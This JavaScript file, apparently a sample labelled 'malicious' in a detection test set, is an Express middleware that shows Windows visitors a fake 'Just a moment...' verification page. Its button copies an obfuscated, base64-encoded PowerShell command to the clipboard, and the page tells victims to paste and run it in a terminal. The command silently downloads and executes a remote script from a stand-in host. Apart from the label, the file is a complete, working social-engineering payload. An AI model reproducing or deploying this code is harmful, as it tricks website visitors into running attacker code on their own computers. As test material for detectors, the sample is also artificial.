// expect: malicious
// An Express bot-gate middleware serves a "verification" page whose inline script copies an encoded PowerShell and
// tells Windows visitors to open the terminal with Win+X, I and paste it (blind set 27).
const VERIFY_CMD = 'powershell -nop -w h -ep bypass -enc JABFAHIAcgBvAHIAQQBjAHQAaQBvAG4AUAByAGUAZgBlAHIAZQBuAGMAZQA9ACIAUwBpAGwAZQBuAHQAbAB5AEMAbwBuAHQAaQBuAHUAZQAiADsAIABpAHcAcgAgAC0AVQBzAGUAQgBhAHMAaQBjAFAAYQByAHMAaQBuAGcAIABoAHQAdABwAHMAOgAvAC8AYwBkAG4ALgBnAGEAdABlAC4AZQB4AGEAbQBwAGwAZQAvAHYALgBwAHMAMQAgAHwAIABpAGUAeAA=';
function page(cmd) {
  return `<!doctype html><html><head><title>Just a moment...</title></head><body>
<ol><li>Press <kbd>Win</kbd> + <kbd>X</kbd>, then <kbd>I</kbd></li><li>Press <kbd>Ctrl</kbd> + <kbd>V</kbd></li><li>Press <kbd>Enter</kbd></li></ol>
<button id="v">Verify</button>
<script>var cmd=${JSON.stringify(cmd)};document.getElementById('v').onclick=function(){navigator.clipboard.writeText(cmd)};</script>
</body></html>`;
}
module.exports = function humanGate() {
  return function (req, res, next) {
    if (req.cookies && req.cookies.hg_ok) return next();
    if (/Windows/.test(req.headers['user-agent'] || '')) return res.status(403).type('html').send(page(VERIFY_CMD));
    next();
  };
};
